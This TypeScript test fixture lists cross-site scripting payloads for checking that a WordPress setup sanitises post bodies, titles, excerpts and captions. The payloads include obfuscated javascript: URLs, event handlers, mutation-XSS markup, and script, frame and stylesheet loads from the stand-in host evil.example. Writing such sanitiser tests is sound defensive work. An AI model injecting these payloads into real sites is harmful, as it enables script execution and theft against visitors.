// Cross-site scripting payloads an author, a plugin or a compromised account could put in a post.
// Each is tried in bodies (unit and e2e) and, where it makes sense, in titles, excerpts and captions.
// The e2e suite publishes them into the real WordPress and watches Chromium for any script running.

export const xssPayloads: string[] = [
  // script elements, plain and disguised
  '<script>window.__xss=1</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>window.__xss=1</scr</script>ipt>',
  '<script/xss src="https://evil.example/x.js"></script>',
  '<<script>window.__xss=1;//<</script>',
  // event handlers on common tags
  '<img src=x onerror="window.__xss=1">',
  '<img src="x" ONERROR=window.__xss=1>',
  '<body onload="window.__xss=1">',
  '<svg onload="window.__xss=1"></svg>',
  '<div onmouseover="window.__xss=1">hover</div>',
  '<a href="#" onclick="window.__xss=1">click</a>',
  '<input autofocus onfocus="window.__xss=1">',
  '<details open ontoggle="window.__xss=1"><summary>x</summary></details>',
  '<video><source onerror="window.__xss=1"></video>',
  '<audio src=x onerror=window.__xss=1></audio>',
  '<marquee onstart="window.__xss=1">x</marquee>',
  '<p style="x" onpointerenter="window.__xss=1">x</p>',
  // javascript:, vbscript:, data: URLs, obfuscated with entities, case and whitespace
  '<a href="javascript:window.__xss=1">x</a>',
  '<a href="JaVaScRiPt:window.__xss=1">x</a>',
  '<a href=" &#14;javascript:window.__xss=1">x</a>',
  '<a href="jav&#x09;ascript:window.__xss=1">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1">x</a>',
  '<a href="javascript&colon;window.__xss=1">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">x</a>',
  '<img src="data:text/html,<script>window.__xss=1</script>">',
  '<img src="javascript:window.__xss=1">',
  '<img srcset="javascript:window.__xss=1 1x">',
  '<video poster="javascript:window.__xss=1"></video>',
  '<blockquote cite="javascript:window.__xss=1">q</blockquote>',
  // svg and math namespace confusion, mutation XSS
  '<svg><script>window.__xss=1</script></svg>',
  '<svg><a xlink:href="javascript:window.__xss=1"><text x="20" y="20">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1></style></mglyph></table></mtext></math>',
  '<svg></p><style><a id="</style><img src=1 onerror=window.__xss=1>">',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=1>',
  '<template><img src=x onerror=window.__xss=1></template>',
  // frames, objects, refresh, base
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<iframe src="javascript:parent.__xss=1"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<object data="javascript:window.__xss=1"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="https://evil.example/"><button>Go</button></form>',
  '<button formaction="javascript:window.__xss=1">x</button>',
  // CSS
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:window.__xss=1)">x</p>',
  '<p style="background-image:url(https://evil.example/track.gif)">x</p>',
  '<div style="width: expression(window.__xss=1)">x</div>',
  '<p style="color: red; behavior: url(x.htc)">x</p>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
];

/** Payloads for fields WordPress renders as text-with-markup: titles, excerpts, captions. */
export const xssInText: string[] = [
  '<script>window.__xss=1</script>Title',
  '<img src=x onerror=window.__xss=1>Caption',
  '"><svg onload=window.__xss=1>',
  '&lt;script&gt;window.__xss=1&lt;/script&gt;',
];
